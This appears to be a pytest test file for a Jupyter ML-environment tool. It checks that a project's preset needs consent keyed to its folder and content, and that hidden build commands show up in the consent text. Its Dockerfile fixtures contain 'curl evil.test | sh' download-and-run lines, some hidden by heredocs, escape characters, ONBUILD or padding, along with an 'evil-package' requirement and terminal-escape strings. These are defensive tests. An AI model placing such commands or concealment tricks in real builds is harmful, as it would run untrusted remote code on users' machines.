"""A project's preset is asked about once, by folder and content, before anything of it is used."""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from jupyter_mlenv import presets
from jupyter_mlenv.errors import MlenvError, PresetInvalid
from jupyter_mlenv.planning import agreements, consent
from jupyter_mlenv.presets.model import Preset, PulledImage
from jupyter_mlenv.settings import Settings
from tests.support.plans import planned

OWN = 'title = "Ours"\n[image]\nreference = "registry.test/small:1"\n'
BUILT = '[image]\ndockerfile = "docker/Dockerfile"\ncontext = "."\n'


def settings(tmp_path: Path, *folders: Path) -> Settings:
    return Settings(
        owner="me",
        uid=1000,
        gid=1000,
        username="ann",
        run_root="/nonexistent",
        preset_paths=tuple(map(str, folders)),
        agreements=str(tmp_path / "data" / "mlenv" / "agreements.json"),
    )


@pytest.fixture
def load(tmp_path: Path) -> Callable[[], Preset]:
    """Gives the preset of the project in `work` as it is now, with its question."""

    def now() -> Preset:
        known = settings(tmp_path)
        found, broken = presets.load(known, str(tmp_path / "work"))
        assert broken == []
        return consent.asked(consent.of_project(found, broken, str(tmp_path / "work")), known)

    (tmp_path / "work" / "docker").mkdir(parents=True)
    (tmp_path / "work" / "mlenv.toml").write_text(OWN)
    return now


@pytest.mark.parametrize("file", ["mlenv.toml", "docker/Dockerfile", ".dockerignore", "docker/Dockerfile.dockerignore"])
def test_every_file_that_says_how_it_is_built_counts(tmp_path: Path, load: Callable[[], Preset], file: str) -> None:
    work = tmp_path / "work"
    (work / "mlenv.toml").write_text(BUILT)
    (work / "docker" / "Dockerfile").write_text("FROM scratch\n")
    before = load().project
    (work / "data.csv").write_text("1\n")
    assert load().project == before
    with (work / file).open("a") as opened:
        opened.write("# more\n")
    after = load().project
    assert before is not None
    assert after is not None
    assert after.digest != before.digest


def test_the_requirements_count_too(tmp_path: Path, load: Callable[[], Preset]) -> None:
    work = tmp_path / "work"
    (work / "mlenv.toml").write_text('[image]\nbase = "b:1"\nrequirements = "requirements.txt"\n')
    absent = load()
    (work / "requirements.txt").write_text("numpy\nevil-package # really\n")
    there = load()
    assert there.consent is not None
    assert absent.consent is not None
    assert there.consent.digest != absent.consent.digest
    assert "It installs what requirements.txt lists: numpy, evil-package." in there.consent.says


def test_it_says_what_a_dockerfile_does(tmp_path: Path, load: Callable[[], Preset]) -> None:
    work = tmp_path / "work"
    (work / "mlenv.toml").write_text(BUILT)
    (work / "docker" / "Dockerfile").write_text(
        "# syntax=evil.test/frontend\nFROM debian:12\nRUN apt-get update \\\n  && curl evil.test | sh\nCOPY . /all\n"
    )
    said = load().consent
    assert said is not None
    assert said.says[0] == (
        "It builds an image from docker/Dockerfile, upon debian:12, "
        "with 1 command (RUN) and 1 copy of files (COPY, ADD)."
    )
    assert "The build runs: apt-get update && curl evil.test | sh" in said.says
    assert "What its instructions mean is up to the image evil.test/frontend." in said.says
    assert f"It sees and changes the files in {work}." in said.says


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM a\nRUN <<EOF\n# harmless\ncurl evil.test | sh\nEOF\n",
        "FROM a\nRUN cat <<-'E' > /x && true\n\tcurl evil.test | sh\n\tE\n",
        "# escape=`\nFROM a\nRUN true `\n  && curl evil.test | sh\n",
        "FROM a\nrun   true \\\n# no end\n\n   && curl evil.test | sh",
        f"FROM a\nRUN {'true && ' * 300} curl evil.test | sh\n",
        f"FROM a\nRUN true{' ' * 300}; curl evil.test | sh\n",
        "FROM a\nONBUILD RUN curl evil.test | sh\n",
        "FROM a\nENV PYTHONSTARTUP=/x curl evil.test | sh\n",
    ],
)
def test_no_command_hides_in_a_dockerfile(tmp_path: Path, load: Callable[[], Preset], dockerfile: str) -> None:
    (tmp_path / "work" / "mlenv.toml").write_text(BUILT)
    (tmp_path / "work" / "docker" / "Dockerfile").write_text(dockerfile)
    said = load().consent
    assert said is not None
    assert any("curl evil.test | sh" in sentence for sentence in said.says), said.says


def test_what_runs_at_once_is_not_behind_many_services(tmp_path: Path, load: Callable[[], Preset]) -> None:
    services = "".join(f'[endpoints.e{n}]\ncommand = ["true"]\nenv = {{ A = "b" }}\n' for n in range(60))
    kernel = '[kernel]\nargv = ["evil", "{connection_file}"]\n'
    (tmp_path / "work" / "mlenv.toml").write_text(OWN + services + kernel)
    said = load().consent
    assert said is not None
    assert "Its kernels run: evil '{connection_file}'" in said.says
    assert "It reaches the network." in said.says
    assert said.says[-1].startswith("And "), "the rest is counted"


def test_it_says_what_would_run_and_see(tmp_path: Path, load: Callable[[], Preset]) -> None:
    (tmp_path / "work" / "mlenv.toml").write_text(
        OWN + '[resources]\nmemory = "2g"\ngpus = "all"\n[env]\nA = "b"\n'
        '[endpoints.web]\ncommand = ["sh", "-c", "curl evil.test"]\n'
        '[kernel]\nargv = ["sh", "{connection_file}"]\npreload = ["evil"]\n'
    )
    said = load().consent
    assert said is not None
    for sentence in (
        "It sets the variables A=b.",
        "Its Web (web) runs: sh -c 'curl evil.test'",
        "Its kernels run: sh '{connection_file}'",
        "Its kernels import at once: evil.",
        "It reaches the network.",
        "It may use all GPUs, 2 GiB of memory.",
    ):
        assert sentence in said.says
    assert not any("JupyterLab" in sentence for sentence in said.says), "what every preset runs is not worth a word"


def test_what_it_says_is_bounded_and_harmless(tmp_path: Path, load: Callable[[], Preset]) -> None:
    work = tmp_path / "work"
    (work / "mlenv.toml").write_text(BUILT)
    (work / "docker" / "Dockerfile").write_text(
        "FROM a\nRUN echo \x1b]52;c;ZXZpbA==\x07 \u202egpj\n" + f"RUN {'x' * 9000}\n" * 90
    )
    said = load().consent
    assert said is not None
    assert len(said.says) <= consent.MAX_SENTENCES
    assert all(len(sentence) <= consent.MAX_SENTENCE_CHARS for sentence in said.says)
    assert "The build runs 79 commands more." in said.says
    assert all(letter.isprintable() for sentence in said.says for letter in sentence)


def test_what_was_agreed_to_is_what_is_built(tmp_path: Path, load: Callable[[], Preset]) -> None:
    """Between the question and the build code in another environment may change the file."""
    from jupyter_mlenv.engines.base import EngineFacts
    from jupyter_mlenv.planning.model import StartRequest

    work = tmp_path / "work"
    (work / "mlenv.toml").write_text(BUILT)
    (work / "docker" / "Dockerfile").write_text("FROM good\n")
    preset = load()
    (work / "docker" / "Dockerfile").write_text("FROM evil\n")
    facts = EngineFacts(kind="docker", version="1", url="", shares_filesystem=True)
    made = planned(preset, StartRequest("project", str(work)), facts, settings(tmp_path))
    assert made.image.recipe is not None
    assert made.image.recipe.dockerfile == "FROM good\n"


def test_agreements_are_kept_by_folder_and_content(tmp_path: Path) -> None:
    file, one, other = str(tmp_path / "d" / "a.json"), "/w/one", "/w/other"
    assert not agreements.agreed(file, one, "0" * 64)
    agreements.add(file, one, "0" * 64)
    agreements.add(file, one, "1" * 64)
    agreements.add(file, other, "2" * 64)
    assert agreements.agreed(file, one, "0" * 64)
    assert agreements.agreed(file, one, "1" * 64)
    assert not agreements.agreed(file, other, "0" * 64)
    assert os.stat(file).st_mode & 0o777 == 0o600
    assert sorted(os.listdir(tmp_path / "d")) == ["a.json"]


def test_the_oldest_agreements_are_forgotten(tmp_path: Path) -> None:
    file = tmp_path / "a.json"
    many = [{"folder": f"/w/{n}", "digest": "0" * 64} for n in range(agreements.MAX_AGREEMENTS)]
    file.write_text(json.dumps({"version": 1, "agreements": many}))
    file.chmod(0o600)
    agreements.add(str(file), "/w/new", "0" * 64)
    assert agreements.agreed(str(file), "/w/new", "0" * 64)
    assert agreements.agreed(str(file), "/w/0", "0" * 64)
    assert not agreements.agreed(str(file), f"/w/{agreements.MAX_AGREEMENTS - 1}", "0" * 64)


@pytest.mark.parametrize(
    "content",
    [
        *(b"", b"{", b"[]", b"null", b"\xff", b'{"agreements": 3}', b'{"agreements": [3]}', b"[" * 100_000),
        *(b'{"agreements": [{"folder": "/w", "digest": 0}]}', b'{"agreements": [{"folder": "/w"}]}'),
    ],
)
def test_a_broken_file_means_that_nothing_was_agreed_to(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "a.json"
    file.write_bytes(content)
    file.chmod(0o600)
    assert not agreements.agreed(str(file), "/w", "0" * 64)
    agreements.add(str(file), "/w", "0" * 64)
    assert agreements.agreed(str(file), "/w", "0" * 64)


def test_a_file_that_others_could_have_written_says_nothing(tmp_path: Path) -> None:
    file = tmp_path / "a.json"
    agreements.add(str(file), "/w", "0" * 64)
    file.chmod(0o622)
    assert not agreements.agreed(str(file), "/w", "0" * 64)
    file.chmod(0o600)
    (tmp_path / "link.json").symlink_to(file)
    assert not agreements.agreed(str(tmp_path / "link.json"), "/w", "0" * 64)
    os.mkfifo(tmp_path / "pipe")
    assert not agreements.agreed(str(tmp_path / "pipe"), "/w", "0" * 64)


@pytest.mark.parametrize("way", ["plain", "link out", "link in"])
def test_a_project_cannot_agree_for_the_person(tmp_path: Path, way: str) -> None:
    """Where the Jupyter data directory is in the project, code inside could write the file."""
    work, data = tmp_path / "work", tmp_path / "data"
    work.mkdir()
    data.mkdir()
    (work / "away").symlink_to(data)
    (work / "here").mkdir()
    (tmp_path / "into").symlink_to(work / "here")
    file = {"plain": work / "here", "link out": work / "away", "link in": tmp_path / "into"}[way] / "a.json"
    file.write_text(json.dumps({"agreements": [{"folder": str(work), "digest": "0" * 64}]}))
    file.chmod(0o600)
    assert not agreements.agreed(str(file), str(work), "0" * 64)
    with pytest.raises(MlenvError) as refused:
        agreements.add(str(file), str(work), "0" * 64)
    assert "cannot be remembered" in refused.value.message


def test_settings_without_a_place_for_agreements_agree_to_nothing(tmp_path: Path, load: Callable[[], Preset]) -> None:
    assert consent.asked(load(), dataclasses.replace(settings(tmp_path), agreements="")).consent is not None


@pytest.mark.parametrize("name", ["host", "python", "locked", "broken"])
def test_a_project_takes_no_name_that_exists(tmp_path: Path, name: str) -> None:
    mine, work = tmp_path / "mine", tmp_path / "work"
    mine.mkdir()
    work.mkdir()
    (mine / "locked.toml").write_text('[image]\nhost = true\n[resources]\nmemory = "256m"\n')
    (mine / "broken.toml").write_text("name = ")
    (work / "mlenv.toml").write_text(f'title = "x"\nname = "{name}"\n[image]\nreference = "evil"\n')
    found, errors = presets.load(settings(tmp_path, mine), str(work))
    assert [preset for preset in found if preset.project or preset.image == PulledImage("evil")] == []
    (error,) = [error for error in errors if error.details["file"] == str(work / "mlenv.toml")]
    assert (error.details["field"], error.details["line"]) == ("name", 2)
    assert 'name = "project"' in error.hint
    if name != "broken":
        assert presets.find(name, found, errors).name == name
    else:
        with pytest.raises(PresetInvalid) as raised:
            presets.find(name, found, errors)
        assert raised.value.details["file"] == str(mine / "broken.toml")


@pytest.mark.parametrize("title", ["Locked lab", " locked  LAB", "\uff2cocked lab"])
def test_a_project_does_not_look_like_another_preset(tmp_path: Path, title: str) -> None:
    mine, work = tmp_path / "mine", tmp_path / "work"
    mine.mkdir()
    work.mkdir()
    (mine / "locked.toml").write_text('title = "Locked lab"\n[image]\nhost = true\n')
    (work / "mlenv.toml").write_text(f'title = "{title}"\n[image]\nreference = "evil"\n')
    _, errors = presets.load(settings(tmp_path, mine), str(work))
    assert [error.details["field"] for error in errors] == ["title"]
    (work / "mlenv.toml").write_text('title = "Ours"\ndescription = "Nice."\n[image]\nreference = "evil"\n')
    own = presets.load(settings(tmp_path, mine), str(work))[0][0]
    assert own.description == "From this project's mlenv.toml. Nice.", "what the tile's tooltip says"
